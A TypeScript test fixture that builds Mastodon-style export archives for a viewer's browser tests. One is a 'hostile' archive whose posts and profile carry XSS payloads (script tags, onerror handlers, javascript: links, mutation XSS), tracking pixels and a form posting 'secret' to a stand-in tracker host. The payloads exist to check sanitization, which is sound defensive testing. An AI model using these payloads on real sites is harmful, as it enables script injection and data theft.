// The archives the browser specs open: a 20k-post one, a rich small one, a hostile one, and a zero-byte zip.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  actorJson, generatePosts, makeAccount, makeBoost, makePost, pngImage, writeArchive,
  type Account, type ItemSpec, type Truth,
} from '../fixtures/archive-builder.js';

/** A temp folder for one spec file's archives and caches; `done()` removes it. */
export function tempRoot(prefix: string): { dir: string; done(): void } {
  const dir = mkdtempSync(join(tmpdir(), `outbox-e2e-${prefix}-`));
  return { dir, done: () => rmSync(dir, { recursive: true, force: true }) };
}

// ── 20k posts ─────────────────────────────────────────────────────────────────────────────────────────

export const BIG_SIZE = 20_000;

export async function bigArchive(dir: string): Promise<{ path: string; truth: Truth }> {
  const { spec, truth } = generatePosts(BIG_SIZE, 20_000);
  return { path: await writeArchive(spec, dir, { fileName: 'big-20k.zip' }), truth };
}

// ── rich: every kind of post the viewer draws, each with a word nothing else uses ─────────────────────

export const RICH_ACCOUNT: Account = makeAccount({
  host: 'harbor.example', username: 'wren', displayName: 'Wren Test',
  bio: '<p>Keeper of a test lighthouse.</p>',
});

/** Words (and facts) the specs look for. */
export const RICH = {
  threadRoot: 'Thread root about quokkaroot',
  threadReply1: 'First reply about quokkareply',
  threadReply2: 'Second reply about quokkadeep',
  mediaText: 'Gannet photos with marmalade sky',
  altGannet: 'A gannet diving into grey water',
  altMissing: 'A tern on a post that was never saved',
  pollText: 'Which bird do you prefer zanzibar',
  pollOptions: ['Puffin', 'Gannet', 'Tern'],
  cwSummary: 'Spoilers for the lighthouse finale',
  cwText: 'The keeper was the ghost all along xylophone',
  comboCw: 'Birds and a vote',
  comboText: 'Everything at once: a picture, a poll, a warning',
  altCombo: 'A puffin holding three fish',
  editedText: 'This one was edited later quasar',
  unlistedText: 'An unlisted note nimbus',
  privateText: 'A followers-only note cumulus',
  directText: 'A direct message stratus',
  germanText: 'Ein deutscher Beitrag über Leuchttürme',
  replyRemoteText: 'Replying to someone far away',
  juneText: 'A marker in June of 2023 tangerine',
  tag: 'seabirds',
  boostTarget: 'https://other.example/users/ana/statuses/111',
  likes: ['https://other.example/users/ana/statuses/201', 'https://far.example/users/bo/statuses/202'],
  bookmarks: ['https://other.example/users/ana/statuses/301'],
};

export type RichKey =
  | 'june' | 'threadRoot' | 'threadReply1' | 'threadReply2' | 'media' | 'poll' | 'cw' | 'boost' | 'replyRemote'
  | 'edited' | 'unlisted' | 'private' | 'direct' | 'german' | 'combo';

export interface RichArchive {
  path: string;
  /** Post.id (status URI; activity id for the boost) by role */
  ids: Record<RichKey, string>;
  /** newest first, as the timeline shows them */
  newestFirst: RichKey[];
}

/** Pictures with something to see in the screenshots (a sky gradient, a sea gradient). */
const SKY = pngImage(320, 200, (x, y) => [255 - y, 140 + (x % 60), 60 + (y >> 1)]);
const SEA = pngImage(320, 200, (x, y) => [20 + (y >> 2), 80 + (y >> 1), 140 + (x % 80)]);

export async function richArchive(dir: string): Promise<RichArchive> {
  const account = RICH_ACCOUNT;
  const items: ItemSpec[] = [];
  const ids = {} as Record<RichKey, string>;
  const order: RichKey[] = [];
  /** Adds a Create item (oldest first, as archives list them) and remembers its status URI. */
  const post = (key: RichKey, day: string, options: Omit<Parameters<typeof makePost>[0], 'account' | 'published'>): string => {
    const item = makePost({ account, published: `${day}T10:00:00Z`, ...options });
    items.push(item);
    order.push(key);
    return (ids[key] = String((item.json.object as { id: string }).id));
  };

  post('june', '2023-06-15', { text: RICH.juneText });
  const root = post('threadRoot', '2024-01-05', { text: `${RICH.threadRoot} #Seabirds` });
  const reply1 = post('threadReply1', '2024-01-06', { text: RICH.threadReply1, inReplyTo: root });
  post('threadReply2', '2024-01-07', { text: RICH.threadReply2, inReplyTo: reply1 });
  post('media', '2024-02-10', {
    text: RICH.mediaText,
    hashtags: [RICH.tag],
    media: [
      { kind: 'image', alt: RICH.altGannet, width: 320, height: 200, bytes: SEA, ext: 'png', mediaType: 'image/png' },
      { kind: 'image', alt: null, width: 320, height: 200, bytes: SKY, ext: 'png', mediaType: 'image/png' },
      { kind: 'image', alt: RICH.altMissing, missing: true, width: 640, height: 480 },
    ],
  });
  post('poll', '2024-02-12', {
    text: RICH.pollText,
    poll: { options: RICH.pollOptions.map((title, i) => ({ title, votes: 3 + i * 4 })), endTime: '2024-02-13T10:00:00Z', closed: true },
  });
  post('cw', '2024-03-01', { text: RICH.cwText, cw: RICH.cwSummary });
  const boost = makeBoost({ account, published: '2024-03-05T10:00:00Z', object: RICH.boostTarget });
  items.push(boost);
  order.push('boost');
  ids.boost = String(boost.json.id);
  post('replyRemote', '2024-03-06', { text: RICH.replyRemoteText, inReplyTo: 'https://other.example/users/ana/statuses/400', mentions: [{ acct: 'ana@other.example' }] });
  post('edited', '2024-04-01', { text: RICH.editedText, updated: '2024-04-02T08:00:00Z' });
  post('unlisted', '2024-04-10', { text: RICH.unlistedText, visibility: 'unlisted' });
  post('private', '2024-04-11', { text: RICH.privateText, visibility: 'private' });
  post('direct', '2024-04-12', { text: RICH.directText, visibility: 'direct', mentions: [{ acct: 'ana@other.example' }] });
  post('german', '2024-04-13', { text: RICH.germanText, language: 'de' });
  post('combo', '2024-05-01', {
    text: RICH.comboText, cw: RICH.comboCw, sensitive: false,
    media: [{ kind: 'image', alt: RICH.altCombo, width: 320, height: 200, bytes: SKY, ext: 'png', mediaType: 'image/png' }],
    poll: { options: ['Yes', 'No'], endTime: '2024-05-02T10:00:00Z', closed: true },
  });
  const path = await writeArchive({
    version: '4.4', account, items, likes: RICH.likes, bookmarks: RICH.bookmarks,
  }, dir, { fileName: 'rich.zip' });
  return { path, ids, newestFirst: [...order].reverse() };
}

// ── hostile: archive HTML that tries to run, overlay, submit and fetch; every post has visible text ──────

export const TRACKER = 'tracker.example';

/** [visible text the post must show, raw HTML around it]. */
export const HOSTILE_POSTS: Array<[string, string]> = [
  ['Hostile one: script tag', `<p>Hostile one: script tag</p><script>window.__pwned='script';alert('script')</script>`],
  ['Hostile two: img onerror', `<p>Hostile two: img onerror<img src=x onerror="window.__pwned='onerror';alert('onerror')"></p>`],
  ['Hostile three: javascript link', `<p><a id="jslink" href="javascript:window.__pwned='jslink';alert('jslink')">Hostile three: javascript link</a></p>`],
  ['Hostile four: svg onload', `<svg onload="window.__pwned='svg';alert('svg')"><circle r="40"/></svg><p>Hostile four: svg onload</p>`],
  ['Hostile five: iframe srcdoc', `<iframe srcdoc="<script>parent.__pwned='iframe';parent.alert('iframe')</script>"></iframe><p>Hostile five: iframe srcdoc</p>`],
  ['Hostile six: form', `<form action="https://${TRACKER}/steal" method="post"><input name="q" value="secret"><button formaction="javascript:window.__pwned='form'">Send</button></form><p>Hostile six: form</p>`],
  ['Hostile seven: fixed overlay', `<div class="overlay" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">Hostile seven: fixed overlay</div>`],
  ['Hostile eight: style and link', `<style>*{display:none!important}</style><link rel="stylesheet" href="https://${TRACKER}/x.css"><p>Hostile eight: style and link</p>`],
  ['Hostile nine: object embed meta base', `<object data="https://${TRACKER}/o.swf"></object><embed src="https://${TRACKER}/e.swf"><meta http-equiv="refresh" content="0;url=https://${TRACKER}/"><base href="https://${TRACKER}/"><p>Hostile nine: object embed meta base</p>`],
  ['Hostile ten: mutation xss', `<p>Hostile ten: mutation xss</p><math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></p></noscript>`],
  ['Hostile eleven: remote image', `<p>Hostile eleven: remote image<img src="https://${TRACKER}/pixel.gif" alt="pixel"></p><p style="background:url(https://${TRACKER}/bg.png)">styled</p><video poster="https://${TRACKER}/poster.jpg" src="https://${TRACKER}/v.mp4" autoplay></video><audio src="https://${TRACKER}/a.mp3" autoplay></audio><picture><source srcset="https://${TRACKER}/s.webp"><img srcset="https://${TRACKER}/set.png 2x"></picture>`],
  ['Hostile twelve: event attributes', `<p onclick="window.__pwned='onclick'" onmouseover="window.__pwned='hover'" style="position:fixed;inset:0">Hostile twelve: event attributes</p><details open ontoggle="window.__pwned='toggle'"><summary>s</summary></details><a href="data:text/html,<script>alert(1)</script>">data link</a>`],
];

export interface HostileArchive {
  path: string;
  /** status URI of each hostile post, in HOSTILE_POSTS order */
  ids: string[];
  /** the post with a remote custom emoji, a remote media url and a poll/alt/CW with markup */
  remoteId: string;
}

const PWN = `<img src=x onerror="window.__pwned='plain'">`;

export async function hostileArchive(dir: string): Promise<HostileArchive> {
  const account = makeAccount({
    host: 'evil.example', username: 'mallory', displayName: `Mallory ${PWN}`,
    bio: `<p>Bio <img src="https://${TRACKER}/bio.gif"><script>window.__pwned='bio'</script></p>`,
    fields: [{ name: `Site ${PWN}`, value: `<a href="javascript:window.__pwned='field'">site</a><img src="https://${TRACKER}/field.gif">` }],
  });
  const items: ItemSpec[] = [];
  const ids: string[] = [];
  HOSTILE_POSTS.forEach(([, html], i) => {
    const item = makePost({ account, published: new Date(Date.UTC(2024, 0, 1 + i, 9)), html });
    items.push(item);
    ids.push(String((item.json.object as { id: string }).id));
  });
  // Remote custom emoji, a media url on a tracker, a poll option and alt text and CW carrying markup.
  const remote = makePost({
    account, published: '2024-02-01T09:00:00Z', text: 'Remote things :trackmoji: stay text', cw: `Warning ${PWN}`,
    emojis: [{ shortcode: 'trackmoji', url: `https://${TRACKER}/emoji/trackmoji.png` }],
    media: [{ kind: 'image', alt: `Alt ${PWN}`, width: 10, height: 10 }, { kind: 'video', alt: null, iconUrl: `https://${TRACKER}/thumb.png` }],
    links: [`javascript:window.__pwned='linkcard'`, `https://${TRACKER}/card`],
  });
  const object = remote.json.object as { attachment: Array<Record<string, unknown>>; id: string };
  object.attachment[0]!.url = `https://${TRACKER}/media/remote.png`;
  object.attachment[1]!.url = `https://${TRACKER}/media/remote.mp4`;
  remote.media = [];
  items.push(remote);
  const poll = makePost({
    account, published: '2024-02-02T09:00:00Z', text: 'A hostile poll',
    poll: { options: [`Yes ${PWN}`, `<script>window.__pwned='poll'</script>No`] },
  });
  items.push(poll);
  // actor.json with the avatar and header on a remote server (as Pleroma writes them) and a remote emoji.
  const actor = actorJson(account, { avatar: null, header: null, pleroma: false, modern: true, withE2ee: false });
  actor.icon = { type: 'Image', mediaType: 'image/png', url: `https://${TRACKER}/avatar.png` };
  actor.image = { type: 'Image', mediaType: 'image/png', url: `https://${TRACKER}/header.png` };
  actor.tag = [{ type: 'Emoji', name: ':trackmoji:', icon: { type: 'Image', url: `https://${TRACKER}/emoji/profile.png` } }];
  const path = await writeArchive({
    version: '4.4', account, items, actor: false, avatar: null, header: null,
    extraEntries: [{ name: 'actor.json', data: Buffer.from(JSON.stringify(actor)) }],
  }, dir, { fileName: 'hostile.zip' });
  return { path, ids, remoteId: object.id };
}

// ── broken ────────────────────────────────────────────────────────────────────────────────────────────

export function zeroByteZip(dir: string): string {
  const path = join(dir, 'archive-empty.zip');
  writeFileSync(path, Buffer.alloc(0));
  return path;
}
